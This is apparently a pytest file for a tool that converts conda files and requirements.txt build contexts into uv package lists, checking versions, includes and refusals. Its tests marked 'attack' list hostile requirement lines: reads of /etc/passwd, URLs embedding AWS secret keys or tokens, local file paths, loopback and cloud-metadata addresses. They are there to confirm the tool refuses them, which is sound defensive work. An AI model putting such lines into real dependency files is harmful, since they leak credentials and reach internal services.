from __future__ import annotations

import sys
from pathlib import Path

import pytest
import yaml

from amlite.services.environments import UnusableEnvironment, preparation
from amlite.services.environments.packages import from_conda, from_context

OWN = f"{sys.version_info.major}.{sys.version_info.minor}"


def conda(*entries: str) -> str:
    return "name: any\ndependencies:\n" + "".join(f"  - {entry}\n" for entry in entries)


@pytest.mark.parametrize(
    ("spec", "version"),
    [
        ("python=3.11", "3.11"),
        ("python==3.11.7", "3.11.7"),
        ("python=3.11.*", "3.11"),
        ("python=3.11=h2755cc3_0", "3.11"),
        ("python >=3.10,<3.12", ">=3.10,<3.12"),
        ("python>=3.10", ">=3.10"),
        ("conda-forge::python=3.12", "3.12"),
        ("python 3.11", "3.11"),
        ("python", OWN),
    ],
)
def test_a_conda_files_python_is_the_one_uv_is_asked_for(spec: str, version: str) -> None:
    assert from_conda(conda(f'"{spec}"'), "conda.yml").python == version


@pytest.mark.attack
@pytest.mark.parametrize("spec", ["python=/tmp/x/python", "python>=/tmp/x", "python=pypy", "python=../python"])
def test_a_conda_files_python_is_no_program(spec: str) -> None:
    """It would be run by uv, on this machine and with all rights, before any job runs."""
    with pytest.raises(UnusableEnvironment, match="has no version of Python"):
        from_conda(conda(f'"{spec}"'), "conda.yml")


def test_a_conda_files_pip_section_is_what_is_installed() -> None:
    text = "dependencies:\n  - python=3.11\n  - pip=24\n  - pip:\n      - numpy==2.4.6\n      - pandas>=3  # frames\n"
    found = from_conda(text, "conda.yml").requirements
    assert found == ("pip==24.*", "numpy==2.4.6", "pandas>=3", "setuptools<81", "wheel")


def test_pip_of_conda_brings_setuptools_unless_the_file_names_it() -> None:
    """azureml-dataprep imports pkg_resources, for example, and does not require it."""
    text = "dependencies:\n  - python=3.8\n  - pip\n  - pip: [setuptools==75.3.0, mltable]\n"
    assert from_conda(text, "conda.yml").requirements == ("pip", "setuptools==75.3.0", "mltable", "wheel")
    assert from_conda("dependencies:\n  - python=3.8\n  - numpy\n", "conda.yml").requirements == ("numpy",)


@pytest.mark.parametrize(
    ("specs", "requirements"),
    [
        (["scikit-learn=1.2.2", "numpy", "pandas"], ("scikit-learn==1.2.2.*", "numpy", "pandas", "numpy<2")),
        (["pandas=2.2"], ("pandas==2.2.*", "numpy<2")),
        (["pandas=2.2.2", "scipy=1.13", "scikit-learn"], ("pandas==2.2.2.*", "scipy==1.13.*", "scikit-learn")),
    ],
)
def test_an_older_package_of_conda_comes_with_the_numpy_that_it_was_built_with(
    specs: list[str], requirements: tuple[str, ...]
) -> None:
    """azureml-examples, managed/inference-schema: scikit-learn 1.2.2 could not be imported with NumPy 2."""
    assert from_conda(conda("python=3.10", *specs), "conda.yml").requirements == requirements


def test_packages_of_condas_own_are_refused_by_name_with_the_fix() -> None:
    with pytest.raises(UnusableEnvironment, match=r"conda\.yml: .*: libgcc, py-opencv, numpy\. Move them under 'pip:'"):
        from_conda(conda("python=3.11", "libgcc=13", "py-opencv", '"numpy=/tmp/x"', "scipy"), "conda.yml")


@pytest.mark.parametrize(
    ("spec", "requirement"),
    [
        ("numpy", "numpy"),
        ("numpy=1.21.2", "numpy==1.21.2.*"),
        ("numpy=1.21.2=py38h_0", "numpy==1.21.2.*"),
        ("pandas>=1.1,<1.2", "pandas>=1.1,<1.2"),
        ("conda-forge::scikit-learn==1.5.2", "scikit-learn==1.5.2"),
    ],
)
def test_packages_that_pypi_has_from_the_same_project_come_from_there(spec: str, requirement: str) -> None:
    """As a quarter of the conda files in Azure/azureml-examples need: numpy, scikit-learn, scipy, pandas."""
    assert from_conda(conda("python=3.11", f'"{spec}"'), "conda.yml").requirements == (requirement,)


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("dependencies: [", "is not YAML"),
        ("name: x", "'dependencies' must be a list"),
        ("dependencies:\n  - npm: [x]", "only section"),
        ("dependencies:\n  - pip: [-r requirements.txt]", "names a file"),
    ],
)
def test_what_is_no_conda_file_is_refused(text: str, reason: str) -> None:
    with pytest.raises(UnusableEnvironment, match=reason):
        from_conda(text, "conda.yml")


@pytest.mark.parametrize(
    ("dockerfile", "version"),
    [
        ("FROM python:3.12-slim", "3.12"),
        ("FROM base\nRUN uv venv --python 3.11 /opt/x", "3.11"),
        ("FROM base\nRUN conda create -n x python=3.10.4", "3.10.4"),
        ("FROM mcr.microsoft.com/azureml/openmpi4.1.0-ubuntu22.04", OWN),
    ],
)
def test_a_build_context_installs_its_requirements_for_the_dockerfiles_python(dockerfile: str, version: str) -> None:
    found = from_context({"Dockerfile": dockerfile, "requirements.txt": "# pins\n\nnumpy==2.4.6  # arrays\n"})
    assert (found.python, found.requirements) == (version, ("numpy==2.4.6",))


def test_a_build_contexts_conda_file_goes_before_its_requirements() -> None:
    files = {"conda.yml": conda("python=3.10"), "requirements.txt": "numpy", "environment.yml": "name: an asset"}
    assert from_context(files).python == "3.10"


def test_a_build_context_that_only_docker_understands_is_refused() -> None:
    with pytest.raises(UnusableEnvironment, match=r"neither requirements\.txt nor conda\.yml"):
        from_context({"Dockerfile": "FROM python:3.11"})


def test_requirements_may_include_other_files_of_the_build_context() -> None:
    files = {
        "requirements.txt": "\ufeff-r base.txt\npandas==3.1.1\n--requirement=more/extra.txt\n",
        "base.txt": "numpy==2.4.6\n",
        "more/extra.txt": "-r../deep.txt\nscipy\n",
        "deep.txt": "joblib # for scipy\n",
    }
    assert from_context(files).requirements == ("numpy==2.4.6", "pandas==3.1.1", "joblib", "scipy")


@pytest.mark.parametrize(
    ("files", "said"),
    [
        ({"requirements.txt": "-r base.txt"}, r"'-r base\.txt' names base\.txt, which is not in the build context"),
        ({"requirements.txt": "-r ../base.txt"}, r"names \.\./base\.txt, which is not in the build context"),
        (
            {"requirements.txt": "-r a.txt", "a.txt": "-r requirements.txt"},
            "names requirements.txt, which includes itself",
        ),
        ({"requirements.txt": "-c pins.txt", "pins.txt": "numpy<3"}, "'-c pins.txt' is for pip in an image only"),
        ({"requirements.txt": "-e ."}, "'-e .' is for pip in an image only"),
    ],
)
def test_requirements_that_name_a_file_in_vain_are_refused(files: dict[str, str], said: str) -> None:
    with pytest.raises(UnusableEnvironment, match=said):
        from_context(files)


def test_comments_make_no_other_environment_and_versions_do() -> None:
    plain = from_context({"requirements.txt": "numpy==2.4.6\npandas==3.1.1"})
    commented = from_context({"requirements.txt": "# why\nnumpy==2.4.6   \n\npandas==3.1.1 # frames"})
    newer = from_context({"requirements.txt": "numpy==2.4.7\npandas==3.1.1"})
    assert plain.digest == commented.digest != newer.digest


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
def test_requirements_are_read_in_the_encoding_that_their_byte_order_mark_names(encoding: str, tmp_path: Path) -> None:
    """As pip reads them."""
    (tmp_path / "requirements.txt").write_bytes("numpy==2.4.6\n".encode(encoding))
    assert from_context(preparation._texts(tmp_path)).requirements == ("numpy==2.4.6",)


@pytest.mark.attack
@pytest.mark.parametrize(
    "line",
    [
        "six\n-r /etc/passwd",
        "six\r--requirement=/etc/passwd",
        "six @ https://example.com/${AWS_SECRET_ACCESS_KEY}/six.whl",
        "--index-url https://${TOKEN}@example.com/simple",
        "six @ file:///home/ann/six.whl",
        "six@FILE:six.whl",
        "/home/ann/six.whl",
        "~/six.whl",
        "--find-links /root",
        "--find-links=/root",
        "--find-links ../state",
        "-f wheels",
        "six @ ../state/six.whl",
        "six@six-1-py3-none-any.whl",
        "six @ %2Fhome%2Fann%2Fsix.whl",
        "../six",
        "./six-1.tar.gz",
        "~ann/six",
        "six-1-py3-none-any.whl",
        "folder/six",
        "six @ git+file:///home/ann/private",
        "six @ http://127.0.0.1:8000/six.whl",
        "six @ http://2130706433/six.whl",
        "six @ https://user@localhost./six.whl",
        "six @ git+http://[::1]:80/six",
        "--extra-index-url http://169.254.169.254/simple",
    ],
)
def test_no_package_names_what_is_this_machines(line: str) -> None:
    """Uv runs with the rights of the user, and its errors are in the log of the job."""
    given = yaml.safe_dump({"dependencies": ["python=3.11", {"pip": [line]}]})
    with pytest.raises(UnusableEnvironment):
        from_conda(given, "the conda file")
    with pytest.raises(UnusableEnvironment):
        from_context({"requirements.txt": line})


@pytest.mark.parametrize(
    "line",
    [
        "six~=1.2", "six ~= 1.2, < 3", "six[a,b]>=1; python_version > '3.9' and sys_platform == 'linux'",
        "six @ https://example.com/a/six-1.0-py3-none-any.whl", "--index-url https://example.com/simple/",
        "--extra-index-url=https://example.com/simple", "six === 1.0+local/x", "--pre",
        "six @ git+https://example.com/a/six@main", "--find-links https://example.com/six.zip/", "zip.whler==1.0",
        "six==1.0 --hash=sha256:aa/b",
    ],
)  # fmt: skip
def test_ordinary_lines_are_kept(line: str) -> None:
    assert from_context({"requirements.txt": line}).requirements == (line,)


@pytest.mark.attack
def test_files_that_include_each_other_twice_are_refused() -> None:
    files = {f"r{number}.txt": f"-r r{number + 1}.txt\n" * 2 for number in range(40)}
    with pytest.raises(UnusableEnvironment, match="includes more than 100 files"):
        from_context({"requirements.txt": "-r r0.txt", **files, "r40.txt": ""})
